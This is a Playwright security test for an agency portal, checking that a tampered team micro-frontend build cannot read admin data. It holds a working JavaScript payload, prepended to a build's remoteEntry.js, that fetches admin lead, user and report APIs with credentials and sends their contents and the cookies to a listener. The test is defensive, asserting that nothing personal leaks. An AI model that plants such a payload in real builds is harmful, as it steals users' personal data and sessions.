import { execFile } from 'node:child_process';
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { gatewayCli, startGateway, type RunningGateway } from '@agency/gateway/testing';
import { repoRoot } from '../support/paths';
import { login, secondStep } from '../support/portal';
import { expect, test } from '../support/fixtures';

// Decision 0077: staff and client sessions never share a document with team-deployed code. A team's quoting build,
// with a few hundred bytes put before its remote entry, is released live the way the operator releases one (with
// the pre-flight checks, which it passes: it is a real build). A signed-in admin opens the price calculator.

const run = promisify(execFile);
const PASSWORD = 'Kahikatea#2025';
const ADMIN = 'kaitiaki';

/** What the added bytes do on the price calculator: read every personal-data API it can, then leave with it. */
const exfiltration = (portal: string, listener: string) =>
  `;(function(){try{if(typeof fetch!=='function'||typeof location==='undefined'||location.pathname!=='/price-calculator'||window.__taken)return;window.__taken=1;var o=[];Promise.all(${JSON.stringify(
    [
      '/api/admin/leads?type=all',
      '/api/admin/leads/export.csv?type=enquiry',
      '/api/auth/user',
      '/api/admin/users',
      '/api/admin/clients',
      '/api/reports',
      `${portal}/api/admin/leads?type=all`,
    ],
  )}.map(function(u){return fetch(u,{credentials:'include'}).then(function(r){return r.text().then(function(t){o.push(u+' '+r.status+' '+t.slice(0,400))})},function(){o.push(u+' unreachable')})})).then(function(){o.push('cookie '+document.cookie);location.href=${JSON.stringify(
    `${listener}/taken?d=`,
  )}+encodeURIComponent(o.join('\\n'))})}catch(e){}})();\n`;

test.describe('a team build that reads and sends what a signed-in admin can see', () => {
  // Its own gateway, and a publish through the pre-flight checks: minutes on a busy machine.
  test.describe.configure({ timeout: 600_000 });
  let gateway: RunningGateway;
  let listener: Server;
  let listenerUrl: string;
  /** Every request the outside listener received: its path and query, decoded. */
  const received: string[] = [];
  let build: string;
  const stamp = Date.now();
  const lead = { business: `Exfil Target ${stamp}`, email: `victim-${stamp}@example.nz` };

  test.beforeAll(async ({ playwright }) => {
    // A hang guard: a gateway of its own, an admin made by the CLI and a checked publish take minutes on a busy
    // two-core machine.
    test.setTimeout(300_000);
    listener = createServer((req, res) => {
      received.push(decodeURIComponent(req.url ?? ''));
      res.end('thanks');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;

    gateway = await startGateway();
    await run(process.execPath, [gatewayCli('create-admin')], {
      env: { ...gateway.env, ADMIN_USERNAME: ADMIN, ADMIN_EMAIL: `${ADMIN}@example.nz`, ADMIN_PASSWORD: PASSWORD },
    });
    const visitor = await playwright.request.newContext();
    const made = await visitor.post(`${gateway.url}/api/contact-inquiry`, {
      data: {
        businessName: lead.business,
        contactName: 'Aroha',
        contactEmail: lead.email,
        servicesInterested: ['seo'],
      },
    });
    expect(made.status()).toBe(201);
    await visitor.dispose();

    // A real quoting build with the bytes before its remote entry, released live through the checks.
    build = await mkdtemp(path.join(tmpdir(), 'agency-exfiltrating-quoting-'));
    await cp(path.join(repoRoot, 'mfe-quoting/dist'), build, { recursive: true });
    const entry = path.join(build, 'remoteEntry.js');
    await writeFile(entry, exfiltration(gateway.portalUrl, listenerUrl) + (await readFile(entry, 'utf8')));
    const said = await gateway.remotes('publish', 'quoting', build);
    expect(said).toMatch(/quoting: live version is now \S+/);
  });
  test.afterAll(async () => {
    await gateway?.stop();
    await new Promise((resolve) => listener?.close(resolve));
    if (build) await rm(build, { recursive: true, force: true });
  });

  test('opened by a signed-in admin, it reads nothing personal and sends nothing personal', async ({ page }) => {
    test.setTimeout(180_000);
    // The admin signs in where sign-in is, the portal (the public site's /auth sends the browser there).
    await login(page, ADMIN, PASSWORD, gateway.url);
    await expect(page).toHaveURL(`${gateway.portalUrl}/auth`);
    await secondStep(page, ADMIN);
    await expect(page).toHaveURL(`${gateway.portalUrl}/dashboard`);
    // The session is live and sees the lead: what the team's code would want.
    const leads = await page.request.get(`${gateway.portalUrl}/api/admin/leads?type=all`);
    expect(leads.status()).toBe(200);
    expect(await leads.text()).toContain(lead.email);
    const session = (await page.context().cookies(gateway.portalUrl)).find((c) => c.name === 'session');
    expect(session?.value).toBeTruthy();

    // The admin opens the price calculator, where the team's code runs.
    await page.goto(`${gateway.url}/price-calculator`);
    await expect.poll(() => received.length, { timeout: 90_000 }).toBeGreaterThan(0);
    const sent = received.join('\n');
    // The code ran and sent what it could read: no answer of the public site had any of it.
    for (const api of ['/api/admin/leads?type=all', '/api/auth/user', '/api/admin/users', '/api/reports'])
      expect(sent).toContain(`${api} 421 {"message":"This is answered at ${gateway.portalUrl} only`);
    // The portal's API is another origin: the page may not even ask it.
    expect(sent).toContain(`${gateway.portalUrl}/api/admin/leads?type=all unreachable`);
    for (const personal of [lead.business, lead.email, `${ADMIN}@example.nz`, session!.value])
      expect(sent).not.toContain(personal);
  });
});
